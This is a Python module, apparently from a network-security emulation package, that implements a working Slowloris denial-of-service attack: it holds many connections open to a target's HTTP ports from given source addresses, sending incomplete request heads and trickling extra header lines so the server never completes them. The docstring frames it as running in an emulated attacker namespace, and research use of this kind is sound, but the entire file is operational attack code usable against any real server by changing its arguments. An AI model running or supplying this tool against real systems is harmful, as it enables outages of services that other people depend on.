"""A real Slowloris (`002_…` Section IV), started in an attacker namespace.

It opens `count` connections to the server's ports, in turn, from the attackers'
addresses (`rate` new ones a second, `OPEN_RATE` unless given), sends each an
incomplete request head, and keeps each open by sending one more header line every
`interval` seconds, never the blank line that ends the head; a connection the server
closes is opened again.

    python -m secmas.network.emulation.slowloris DST PORT[,PORT…] COUNT INTERVAL SRC[,SRC…] [RATE]
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import sys

OPEN_RATE = 200.0


async def hold(dst: str, port: int, src: str, interval: float, rng: random.Random) -> None:
    """One connection kept open with a header line every `interval`, reopened when closed."""
    while True:
        writer = None
        try:
            _, writer = await asyncio.open_connection(dst, port, local_addr=(src, 0))
            writer.write(
                f"GET /?{rng.getrandbits(32):x} HTTP/1.1\r\nHost: {dst}\r\n"
                "User-Agent: Mozilla/5.0\r\n".encode()
            )
            await writer.drain()
            while True:
                await asyncio.sleep(interval * rng.uniform(0.8, 1.2))
                writer.write(f"X-a: {rng.getrandbits(16)}\r\n".encode())
                await writer.drain()
        except OSError:
            await asyncio.sleep(interval)
        finally:
            if writer is not None:
                writer.close()


async def slowloris(
    dst: str,
    ports: list[int],
    count: int,
    interval: float,
    sources: list[str],
    rate: float = OPEN_RATE,
) -> None:
    rng = random.Random()
    tasks = []
    for index in range(count):
        source, port = sources[index % len(sources)], ports[index % len(ports)]
        tasks.append(asyncio.ensure_future(hold(dst, port, source, interval, rng)))
        await asyncio.sleep(1.0 / rate)
    await asyncio.gather(*tasks)


def main(argv: list[str]) -> int:
    if len(argv) not in (5, 6):
        print(__doc__, file=sys.stderr)
        return 2
    dst, count, interval = argv[0], int(argv[2]), float(argv[3])
    ports = [int(port) for port in argv[1].split(",")]
    rate = float(argv[5]) if len(argv) == 6 else OPEN_RATE
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(slowloris(dst, ports, count, interval, argv[4].split(","), rate))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
